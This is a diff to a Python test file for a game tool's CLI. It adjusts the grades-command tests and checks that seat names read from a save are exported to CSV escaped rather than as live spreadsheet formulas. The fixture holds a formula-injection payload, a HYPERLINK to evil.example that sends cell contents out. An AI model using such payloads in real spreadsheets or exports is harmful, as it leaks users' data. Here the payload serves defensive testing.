@@ -198,6 +198,8 @@ def test_commands_that_read_a_save_show_its_seats_and_run_nothing(
     argv = [command, str(attack.save)]
     if command == "rollback":
         argv += ["--round", "1", "--out", str(tmp_path / "rolled.json")]
+    if command == "grades":
+        argv += ["--include-unfinished"]  # the game is unfinished: scored only if asked
     code, out, err = run(capsys, *argv)
     assert code == 0, err
     assert "Traceback" not in out + err
@@ -341,8 +343,9 @@ def test_grades_cells_from_a_save_are_never_spreadsheet_formulas(
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     save_game(path, game, {"A": formula, "B": "@SUM(1+1)", "C": "passive"}, scenario_text=text,
               scenario_name="small.yaml")
-    code, out, _ = run(capsys, "grades", str(path))
+    code, out, _ = run(capsys, "grades", str(path), "--include-unfinished")
     assert code == 0
-    seats = [line.split(",")[4] for line in out.splitlines()[1:]]
+    column = out.splitlines()[0].split(",").index("seat")
+    seats = [line.split(",")[column] for line in out.splitlines()[1:]]
     assert seats[:2] == ['"\'=HYPERLINK(""http://evil.example/?""&A1', "'@SUM(1+1)"]
     assert seats[2] == "passive"
